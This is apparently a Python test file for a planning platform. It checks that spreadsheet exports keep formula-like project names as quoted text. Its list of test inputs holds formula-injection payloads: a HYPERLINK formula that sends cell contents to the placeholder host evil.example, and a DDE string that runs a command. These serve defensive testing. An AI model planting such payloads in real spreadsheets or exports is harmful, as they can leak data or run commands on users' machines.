"""Every workbook the platform exports writes texts that look like formulas as quoted text: a project
named =HYPERLINK(...) or =cmd|... must never become a live formula on the office's desk."""

import io

import pytest
from openpyxl import load_workbook

from minsheng.plans.models import Project
from tests.conftest import plan, project

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+86-1",
    "-5+3",
    "\t=1+1",
]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content), rich_text=True)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _text(cell) -> str:
    value = cell.value
    if value is None or isinstance(value, str | int | float):
        return "" if value is None else str(value)
    return "".join(str(getattr(p, "text", p)) for p in value)


@pytest.mark.parametrize(
    "url", ["/plans/{plan}/export.xlsx", "/plans/{plan}/ledger.xlsx", "/plans/{plan}/problems/export.xlsx"]
)
def test_formula_like_project_names_stay_text(client_for, url):
    p = plan("济宁市", 2024)
    names = dict(zip(range(1, len(HOSTILE) + 1), HOSTILE, strict=True))
    for seq, name in names.items():
        Project.objects.filter(pk=project("济宁市", 2024, str(seq)).pk).update(name=name)
    response = client_for("office").get(url.format(plan=p.pk))
    assert response.status_code == 200
    cells = list(_cells(response.content))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula was written"
    written = {_text(c): c for c in cells if c.value is not None and _text(c) in HOSTILE}
    if "problems" in url:
        return  # the problem list shows only projects with problems: no live formula is what counts
    assert set(written) == set(HOSTILE)
    assert all(c.quotePrefix for c in written.values())
